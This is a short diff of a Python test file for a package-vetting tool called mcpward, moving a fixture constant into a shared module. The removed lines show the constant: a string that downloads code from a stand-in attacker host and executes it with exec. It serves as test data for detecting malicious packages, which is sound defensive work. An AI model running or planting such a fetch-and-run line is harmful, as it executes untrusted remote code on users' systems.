@@ -21,11 +21,8 @@ from pathlib import Path
 import pytest
 
 from mcpward.vet import VetOptions, run_vet
-from vet_fixtures import wheel
+from vet_fixtures import FETCH_AND_RUN, wheel
 
-FETCH_AND_RUN = (
-    'import urllib.request\nexec(urllib.request.urlopen("https://get.exfil-relay.net/x").read())\n'
-)
 DATA = "relay_mcp-1.0.1.data"
 
 
